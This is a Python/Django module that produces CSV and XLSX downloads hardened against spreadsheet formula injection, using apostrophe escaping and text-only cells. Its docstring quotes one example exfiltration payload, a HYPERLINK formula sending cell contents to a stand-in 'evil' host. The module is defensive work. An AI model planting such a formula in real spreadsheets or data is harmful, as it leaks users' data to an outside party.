"""Spreadsheet downloads (CSV and XLSX), safe to open in Excel or LibreOffice.

Every export of the project goes through ``table_response`` (a test fails on a
``csv.writer`` or ``Workbook`` anywhere else). Values that start like a formula
(``=``, ``+``, ``-``, ``@``, a tab or a carriage return) would be run by the
spreadsheet program — a host named ``=HYPERLINK("https://evil/?"&A1)`` sends
the neighbouring cells away when clicked. In CSV such a text gets a leading
apostrophe (OWASP's advice: the program shows it as text); in XLSX the cell is
written as a text cell, which no program evaluates. Numbers and dates are
written as they are, so a negative amount stays a number.
"""

import csv
import datetime
import io
import itertools
from decimal import Decimal

from django.http import HttpResponse
from django.utils.functional import Promise

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _plain(value):
    """Lazy translations (labels of choices) become their text."""
    return str(value) if isinstance(value, Promise) else value


def escape_csv(value):
    value = _plain(value)
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


# openpyxl's date formats, which this writer replaced (see _xlsx).
DATE_FORMAT, DATETIME_FORMAT = "yyyy-mm-dd", "yyyy-mm-dd h:mm:ss"


def _xlsx_writer(sheet, formats):
    """One writer per value: text is always a text cell (write_string never makes
    a formula of "=..."), numbers stay numbers, nothing is written for None or ""
    (an empty cell, as openpyxl wrote it)."""

    def write(row, col, value):
        value = _plain(value)
        if value is None or value == "":
            return
        if isinstance(value, str):
            sheet.write_string(row, col, value)
        elif isinstance(value, bool):
            sheet.write_boolean(row, col, value)
        elif isinstance(value, int | float | Decimal):
            sheet.write_number(row, col, value)
        elif isinstance(value, datetime.datetime):
            sheet.write_datetime(row, col, value, formats["datetime"])
        elif isinstance(value, datetime.date):
            sheet.write_datetime(row, col, value, formats["date"])
        else:
            sheet.write_string(row, col, str(value))

    return write


def _xlsx(header, rows):
    """XlsxWriter in constant_memory mode: each row goes to the file when the next
    one starts, so an export of any length holds one row, as openpyxl's write-only
    mode did, at half its time (7,000 cells: openpyxl spent 30 us a cell)."""
    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"constant_memory": True})
    sheet = book.add_worksheet("Sheet")
    formats = {"date": book.add_format({"num_format": DATE_FORMAT})}
    formats["datetime"] = book.add_format({"num_format": DATETIME_FORMAT})
    write = _xlsx_writer(sheet, formats)
    for r, row in enumerate(itertools.chain([header], rows)):
        for c, value in enumerate(row):
            write(r, c, value)
    book.close()
    return buffer.getvalue()


def table_response(filename: str, header, rows, fmt: str):
    """CSV (semicolon, Excel-friendly in Dutch locales) or XLSX download."""
    if fmt == "xlsx":
        response = HttpResponse(
            _xlsx(header, rows),
            content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        )
        response["Content-Disposition"] = f'attachment; filename="{filename}.xlsx"'
        return response
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")
    writer.writerow([escape_csv(v) for v in header])
    writer.writerows([escape_csv(v) for v in row] for row in rows)
    response = HttpResponse("\ufeff" + buffer.getvalue(), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response
